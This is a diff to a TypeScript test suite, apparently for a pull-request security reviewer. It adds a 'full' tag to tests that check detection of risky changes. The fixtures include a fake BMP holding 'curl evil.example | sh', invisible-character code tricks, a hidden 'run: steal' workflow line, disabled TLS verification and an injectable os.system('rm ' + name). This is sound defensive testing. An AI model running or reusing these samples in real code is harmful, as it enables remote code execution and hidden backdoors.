@@ -35,7 +35,7 @@ describe("what is called media", () => {
     ["a shell script behind two letters", "logo.bmp", Buffer.from("BM\ncurl evil.example | sh\n\xff", "latin1")],
     ["a picture", "logo.png", aPng()],
     ["a Git LFS pointer", "logo.png", Buffer.from(POINTER)],
-  ])("is not passed over when it may be run: %s", async (_, path, bytes) => {
+  ])("is not passed over when it may be run: %s", { tags: ["full"] }, async (_, path, bytes) => {
     await using repository = await changedWithMode({ [path]: bytes });
     const run = await reviewPr(repository);
     expect(run.report.run).toMatchObject({
@@ -44,7 +44,7 @@ describe("what is called media", () => {
     });
   });
 
-  it("passes when it is media, new, changed, moved or kept in Git LFS", async () => {
+  it("passes when it is media, new, changed, moved or kept in Git LFS", { tags: ["full"] }, async () => {
     const base = { "docs/a.png": aPng(), "b.gif": aGif(), "c.bmp": aBmp(), "d.png": POINTER };
     const moved = { "docs/a.png": null, "src/assets/a.png": aPng(), "b.gif": null, "d.png": null, "e.png": POINTER };
     await using repository = await changed(base, { ...moved, "c.bmp": null, "f.png": aPng(7) });
@@ -57,7 +57,9 @@ const BAD_LINE = "export const agent = new https.Agent({ rejectUnauthorized: fal
 const START = "export const start = 1;\n";
 
 describe("what nobody can read", () => {
-  it("could not be judged, and no part of the report says that it was read; findings beside it may be posted", async () => {
+  it("could not be judged, and no part of the report says that it was read; findings beside it may be posted", {
+    tags: ["full"],
+  }, async () => {
     await using repository = await changed({}, { "x.dat": Buffer.from("a\0\u0001b"), "model.onnx": POINTER });
     const run = await reviewPr(repository);
     expect(run.report.run.title).toBe("Could not judge: model.onnx and 1 more cannot be read as text");
@@ -69,7 +71,7 @@ describe("what nobody can read", () => {
     }
   });
 
-  it("is not among what was read in full when a rule alone found something in it", async () => {
+  it("is not among what was read in full when a rule alone found something in it", { tags: ["full"] }, async () => {
     await using repository = await changed({}, { "n.js": "const a = 1;\nconst b\0 = 2;\n", "ok.js": "export {};\n" });
     const run = await reviewPr(repository);
     expect(placesOf(run)).toContain("n.js:2 head");
@@ -79,7 +81,7 @@ describe("what nobody can read", () => {
 });
 
 describe("a new file with a line of which nothing can be seen", () => {
-  it("has nothing from before the change, though no line of it can be quoted", async () => {
+  it("has nothing from before the change, though no line of it can be quoted", { tags: ["full"] }, async () => {
     await using repository = await changed({}, { "n.js": "const a = 1;\n\0\nmodule.exports = a;\n" });
     const { report } = await reviewPr(repository);
     expect(report.findings.map(({ file, classification }) => [file, classification])).toEqual([["n.js", "new"]]);
@@ -93,7 +95,7 @@ describe("code that reads otherwise than it runs", () => {
     ["a carriage return in a workflow", ".github/workflows/a.yml", "# harmless\r  run: steal\n"],
     ["a blank letter", "a.js", "const { name, \u3164 } = query;\n"],
     ["a joiner behind a name", "a.js", "if (admin\u200d) grant();\n"],
-  ])("fails the check when %s hides it, whichever panel plays", async (_, path, hidden) => {
+  ])("fails the check when %s hides it, whichever panel plays", { tags: ["full"] }, async (_, path, hidden) => {
     await using repository = await changed({ [path]: START }, { [path]: `${START}${hidden}` });
     const told = { file: path, line: 2, severity: "high", detected_by: "hidden-code", source: "gate" };
     const { report } = await reviewPr(repository);
@@ -103,7 +105,7 @@ describe("code that reads otherwise than it runs", () => {
     expect([report.run.conclusion, byModel.report.run.conclusion]).toEqual(["failure", "failure"]);
   });
 
-  it("counts lines as git does, whatever else ends a line for others", async () => {
+  it("counts lines as git does, whatever else ends a line for others", { tags: ["full"] }, async () => {
     const odd = 'const text = "a\u2028b\u2029c\u0085d";\r\n\fconst more = `e\rf`;\n';
     await using repository = await changed({ "a.js": START }, { "a.js": `${START}${odd}${BAD_LINE}\n` });
     const numbered = (await repository.git("grep", "-n", "rejectUnauthorized", "pr")).split(":")[2];
@@ -125,7 +127,7 @@ describe("code that reads otherwise than it runs", () => {
     expect(served.join("\n")).toMatch(/^\s*4\b.*rejectUnauthorized/m);
   });
 
-  it("is quoted on the line that the finding names, as no line ends there for git", async () => {
+  it("is quoted on the line that the finding names, as no line ends there for git", { tags: ["full"] }, async () => {
     await using repository = await changed({}, { "a.py": 'import os\rdef run(name):\r    os.system("rm " + name)\r' });
     const { report } = await reviewPr(repository);
     expect(report.findings.map(({ line }) => line)).toEqual([1, 1]);
@@ -135,7 +137,7 @@ describe("code that reads otherwise than it runs", () => {
     expect(renderReport(report, "html")).toContain(quote.replaceAll('"', "&#34;"));
   });
 
-  it("says nothing of what is written so by right", async () => {
+  it("says nothing of what is written so by right", { tags: ["full"] }, async () => {
     const own = 'const team = "👩\u200d💻 ❤️";\nconst word = "می\u200cخواهم";\n';
     const file = `\ufeff${START}${own}`.replaceAll("\n", "\r\n");
     await using repository = await changed({}, { "a.js": file, "a.md": "# A\rb\n" });
@@ -144,7 +146,7 @@ describe("code that reads otherwise than it runs", () => {
 });
 
 describe("data that a change makes unreadable", () => {
-  it("fails the check when a file of data is emptied, or text is renamed into one", async () => {
+  it("fails the check when a file of data is emptied, or text is renamed into one", { tags: ["full"] }, async () => {
     const text = "name: [a\n".repeat(20);
     const base = { "package.json": '{ "name": "a" }\n', "notes.txt": text };
     await using repository = await changed(base, { "package.json": "", "notes.txt": null, "ci.yml": text });
